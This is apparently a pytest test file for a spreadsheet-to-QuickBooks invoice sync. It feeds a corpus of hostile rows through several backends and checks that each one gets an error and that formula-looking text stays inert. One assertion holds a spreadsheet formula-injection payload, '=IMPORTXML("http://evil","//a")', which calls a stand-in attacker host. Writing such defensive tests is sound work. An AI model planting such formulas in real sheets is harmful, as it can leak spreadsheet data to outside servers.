"""The bad-input corpus (tests/data/bad_rows.json): every hostile row gets its own clear qb_error, the good
rows in the same sheet still sync, nothing crashes, and formula-looking text stays text everywhere; on both sheet
backends, and with the database on PostgreSQL (which, unlike SQLite, refuses a value longer than its column)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import acd
from tests.builders import sheet_row, table
from tests.reliability.conftest import make_world

CORPUS = json.loads((Path(__file__).resolve().parents[1] / "data" / "bad_rows.json").read_text(encoding="utf-8"))


def _expand(text: str) -> str:
    if text.startswith("$repeat:"):
        _, times, unit = text.split(":", 2)
        return unit * int(times)
    return text


def _row(number: int, cells: dict) -> list[str]:
    defaults = dict(invoice=f"BAD-{number:02d}", end_client="", inv_dollars="100.00", task_descr="Training",
                    job_name="TR-1")
    return sheet_row(**{**defaults, **{k: _expand(v) for k, v in cells.items()}})


def _sheet_rows():
    rows, expected = table(), []
    for number, case in enumerate(CORPUS["cases"]):
        if case.get("duplicate_of_previous"):
            rows.append(_row(number, {**case["cells"], "task_descr": "the first of two"}))
            expected.append({"id": case["id"] + " (first)", "status": "synced", "error": ""})
        rows.append(_row(number, case["cells"]))
        expected.append(case)
    for good in range(5):
        rows.append(_row(90 + good, {}))
        expected.append({"id": f"good-{good}", "status": "synced", "error": ""})
    return rows, expected


def test_the_corpus_is_big_enough():
    assert len(CORPUS["cases"]) >= 40


@pytest.fixture(params=["local", "google", "local-postgresql"])
def world(request, tmp_path, qbo):
    rows, expected = _sheet_rows()
    database = request.getfixturevalue("postgres_url") if request.param.endswith("postgresql") else None
    world = make_world(tmp_path, qbo, rows, database=database)
    qbo.add_customer("Old Client Co", active=False)
    if request.param == "google":
        import dataclasses

        emulator = request.getfixturevalue("sheets_emulator")
        settings = request.getfixturevalue("google_settings")()
        emulator.add_spreadsheet(settings.google_sheet_id, sheets={"inv_tbl": rows})
        world.settings = dataclasses.replace(settings, database_url=world.settings.database_url)
    world.expected = expected
    return world


def test_every_bad_row_gets_its_message_and_the_good_rows_sync(world):
    report = world.service().run("cli")
    assert report.status == "ok", report.error
    rows = acd.open_sheet(world.settings).worksheet("inv_tbl").read_all()
    header = rows[0]
    problems = []
    for case, row in zip(world.expected, rows[1:]):
        cells = dict(zip(header, row))
        if cells["qb_sync_status"] != case["status"] or case["error"] not in cells["qb_error"]:
            problems.append(f"{case['id']}: status {cells['qb_sync_status']!r}, error {cells['qb_error'][:160]!r}")
        if case["status"] == "synced" and not cells["qb_invoice_id"]:
            problems.append(f"{case['id']}: synced without an id")
    assert problems == [], "\n".join(problems)
    created = {i["DocNumber"]: i for i in world.emulator.created("Invoice")}
    assert "=A1" in created, "formula-looking numbers are plain text in QuickBooks"
    notes = next(i for i in created.values() if "IMPORTXML" in i.get("PrivateNote", ""))
    assert '=IMPORTXML("http://evil","//a")' in notes["PrivateNote"]
    assert all(len(i.get("PrivateNote", "")) <= 4000 for i in created.values())
    again = world.service().run("cli")
    assert (again.status, len(world.emulator.created("Invoice"))) == ("ok", len(created)), again.error
